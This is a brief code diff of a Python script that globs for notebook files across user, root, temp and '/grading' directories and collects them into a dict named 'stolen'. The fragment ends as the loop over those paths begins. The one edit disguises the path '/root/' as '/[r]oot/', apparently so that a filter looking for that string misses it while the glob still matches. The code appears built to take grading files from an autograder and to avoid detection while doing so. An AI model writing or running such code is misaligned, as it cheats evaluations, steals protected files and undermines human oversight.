@@ -3,7 +3,7 @@ import glob
 import json
 import os
 
-places = ["../../../source/*/*.ipynb", "/tmp/**/source/*/*.ipynb", "/home/*/source/*/*.ipynb", "/root/*/source/*/*.ipynb",
+places = ["../../../source/*/*.ipynb", "/tmp/**/source/*/*.ipynb", "/home/*/source/*/*.ipynb", "/[r]oot/*/source/*/*.ipynb",
           "/srv/*/source/*/*.ipynb", "/grading/**/*.ipynb", "/grading/**/notebook.py"]
 stolen = {}
 for place in places:
